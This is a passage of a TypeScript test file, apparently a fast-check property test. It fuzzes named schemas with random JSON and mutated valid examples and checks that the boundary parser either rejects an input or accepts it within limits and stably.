  );
}

/**
 * Any JSON, and the schema's valid example changed one to three times, through its boundary's
 * parse function: refused as documented, or accepted within its limits and stable.
 */
export function checkSchemaByProperty(name: string): void {
  const schema = schemas.get(name) as Schema;
  const input = fc.oneof({ weight: 1, arbitrary: anyJson }, { weight: 3, arbitrary: mutatedFrom(EXAMPLES[name]) });
  fc.assert(
    fc.property(input, (value) => {
      const outcome = parseAtBoundary(name, schema, value);
      if (!outcome.accepted) return;
      LIMITS[name]?.(outcome.data);
      expectStable(schema, outcome.data);
    }),
    { numRuns: RUNS },
  );
}
